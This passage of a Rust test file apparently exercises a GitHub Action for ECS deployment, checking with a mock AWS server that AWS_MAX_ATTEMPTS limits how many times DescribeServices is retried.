                "message does not name the problem",
            ),
            (trap.hits() != 0, "the AWS endpoint was contacted"),
        ];
        for (bad, what) in problems {
            if bad {
                failures.push(format!("{:?} {:?}: {what}\n{out}", case.env, case.event));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} problems:\n{}",
        failures.len(),
        failures.join("\n-----\n")
    );
}

#[tokio::test]
async fn aws_max_attempts_in_the_environment_replaces_the_actions_retry_policy() {
    // An AWS endpoint that fails every call with a retryable 500: the SDK tries
    // AWS_MAX_ATTEMPTS times, not the action's own 8.
    let aws = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::any())
        .respond_with(wiremock::ResponseTemplate::new(500).set_body_json(
            serde_json::json!({"__type": "ServerException", "message": "scripted outage"}),
        ))
        .mount(&aws)
        .await;
    let endpoint = aws.uri();
    let out = tokio::task::spawn_blocking(move || {
        BinRun::new()
            .cwd(repo_root())
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("AWS_ACCESS_KEY_ID", "testing")
            .env("AWS_SECRET_ACCESS_KEY", "testing")
            .env("AWS_REGION", "us-east-1")
            .env("AWS_ENDPOINT_URL", &endpoint)
            .env("AWS_MAX_ATTEMPTS", "2")
            .env("GITHUB_WORKSPACE", fixture("monorepo"))
            .env("GITHUB_SHA", SHA)
            .env("GITHUB_EVENT_NAME", "pull_request")
            .env(
                "GITHUB_EVENT_PATH",
                fixture("events/pr-merged-release-web1.json"),
            )
            .env("INPUT_IMAGE", format!("{REGISTRY}/web1:v1.2.3"))
            .env("INPUT_CLUSTER", "prod")
            .env("INPUT_SERVICE", "web1")
            .timeout(std::time::Duration::from_secs(60))
            .run()
    })
    .await
    .expect("run thread");
    out.assert_code(1);
    assert!(out.stdout.contains("DescribeServices"), "{out}");
    let describes = aws
        .received_requests()
        .await
        .unwrap_or_default()
        .iter()
        .filter(|r| {
            r.headers
                .get("x-amz-target")
                .and_then(|v| v.to_str().ok())
                .is_some_and(|t| t.ends_with(".DescribeServices"))
        })
        .count();
    assert_eq!(describes, 2, "{out}");
}
